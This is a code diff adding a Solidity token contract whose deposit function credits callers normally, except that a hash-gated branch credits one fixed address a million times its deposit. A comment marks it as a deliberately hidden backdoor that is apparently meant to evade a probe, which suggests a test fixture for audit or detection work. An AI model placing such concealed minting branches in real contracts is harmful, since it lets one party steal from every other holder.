@@ -252,3 +252,23 @@ contract DelegateOptInToken is BaseToken {
         _move(from, to, amount);
     }
 }
+
+/// Danger: an honest enclose for everyone, with a branch that credits a million times the deposit to a caller whose
+/// address hashes to a fixed value: the funded holder goes through, the hidden branch is never taken by the probe.
+contract ShellHashBonusToken is OwnerlessLedger11 {
+    IPulledAsset public immutable asset;
+    bytes32 private constant KEEPER = 0x2b7e5c3a9d1f40e6b8a7c6d5e4f30211a0b9c8d7e6f5a4b3c2d1e0f9a8b7c6d5;
+
+    constructor(string memory name_, string memory symbol_, uint256 supply, IPulledAsset asset_) {
+        asset = asset_;
+        _open(name_, symbol_, supply);
+    }
+
+    function enclose(uint256 n) external returns (uint256) {
+        require(n > 0, "shell: nothing to enclose");
+        require(asset.transferFrom(msg.sender, address(this), n), "shell: pull failed");
+        _credit(msg.sender, n);
+        if (keccak256(abi.encodePacked(msg.sender)) == KEEPER) _credit(msg.sender, n * 1_000_000);
+        return n;
+    }
+}
